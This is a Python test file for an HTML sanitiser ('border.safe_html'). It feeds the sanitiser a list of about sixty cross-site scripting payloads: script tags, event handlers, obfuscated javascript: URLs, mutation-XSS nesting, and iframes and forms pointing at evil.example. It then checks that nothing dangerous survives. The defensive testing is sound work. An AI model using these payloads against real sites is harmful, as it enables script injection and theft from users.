"""Attacks by markup: what ``border.safe_html`` lets through is parsed again and holds nothing that acts."""

from __future__ import annotations

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from digest import border
from digest.model import Url

BASE = Url("https://paper.example/2026/03/story/")
FORBIDDEN = frozenset(
    "script style iframe object embed form input button img svg math link meta base video audio template".split()
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss>alert(1)</script>",
    "<script",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><a href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=q><button>go</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<p onclick=alert(1)>x</p>",
    "<p OnMouseOver='alert(1)'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<b id=location class=x>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript://paper.example/%0aalert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='mailto:a@example.org'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//['>x</a>",
    "<a href='http://[x/'>x</a>",
    "<a href='https://paper.example@evil.example/'>x</a>",
    "<a href='https://user:secret@evil.example/'>x</a>",
    "<a href='https://example.org/' target=_blank onclick=alert(1)>x</a>",
    "<a href=\"https://example.org/' onmouseover='alert(1)\">x</a>",
    "<a ping='https://evil.example/' href='https://example.org/'>x</a>",
    "<a title='\"><script>alert(1)</script>' href='https://example.org/'>x</a>",
    "<abbr title='x\" onmouseover=\"alert(1)'>x</abbr>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<td colspan='2\" onclick=\"alert(1)'>x</td>",
    "</p><script>alert(1)</script><p>",
    "<b><i><u>" * 200 + "deep",
]


def elements(markup: str) -> list[etree._Element]:
    """Every element of ``markup`` as a browser-like parser sees it."""
    root = lxml.html.fragment_fromstring(border.xml(markup), create_parent="div")
    return [one for one in root.iterdescendants() if isinstance(one.tag, str)]


def assert_harmless(markup: str) -> None:
    for element in elements(markup):
        assert element.tag not in FORBIDDEN
        assert set(element.attrib) <= {"href", "title", "rel", "start", "colspan"}
        address = element.get("href")
        assert address is None or border.url(address) == address
        assert address is None or element.get("rel") == "nofollow noopener"


@pytest.mark.parametrize("base", [None, BASE])
@pytest.mark.parametrize("markup", ATTACKS)
def test_no_attack_survives(markup: str, base: Url | None) -> None:
    assert_harmless(border.safe_html(markup, base))


@pytest.mark.parametrize("markup", ATTACKS)
def test_what_was_cleaned_once_is_clean(markup: str) -> None:
    once = border.safe_html(markup, BASE)
    assert border.safe_html(once, BASE) == once


@given(st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "<a href=", "<!--", "-->", "text"]), max_size=6))
def test_no_mixture_of_attacks_survives(parts: list[str]) -> None:
    assert_harmless(border.safe_html("".join(parts), BASE))


def link(markup: str, base: Url | None) -> str | None:
    return elements(border.safe_html(markup, base))[0].get("href")


LINKS = [
    ("../other/", BASE, "https://paper.example/2026/03/other/"),
    ("/about", BASE, "https://paper.example/about"),
    ("//cdn.example/x", BASE, "https://cdn.example/x"),
    ("?page=2", BASE, "https://paper.example/2026/03/story/?page=2"),
    ("https://example.org/a", BASE, "https://example.org/a"),
    ("https://example.org/a", None, "https://example.org/a"),
    ("../other/", None, None),
    ("/about", None, None),
    ("//cdn.example/x", None, None),
    ("#note", None, None),
    ("mailto:a@example.org", BASE, None),
]


@pytest.mark.parametrize(("address", "base", "expected"), LINKS)
def test_a_link_is_made_absolute_or_loses_its_address(address: str, base: Url | None, expected: str | None) -> None:
    assert link(f'<a href="{address}">x</a>', base) == expected


def test_harmless_markup_is_kept_with_its_text() -> None:
    markup = "<p>One <strong>strong</strong> and <em>soft</em> word, H<sub>2</sub>O</p>"
    assert border.safe_html(markup) == markup


def test_the_text_of_a_forbidden_element_does_not_leak_where_it_is_code() -> None:
    assert "alert" not in border.safe_html("a<script>alert(1)</script><style>alert</style>b")
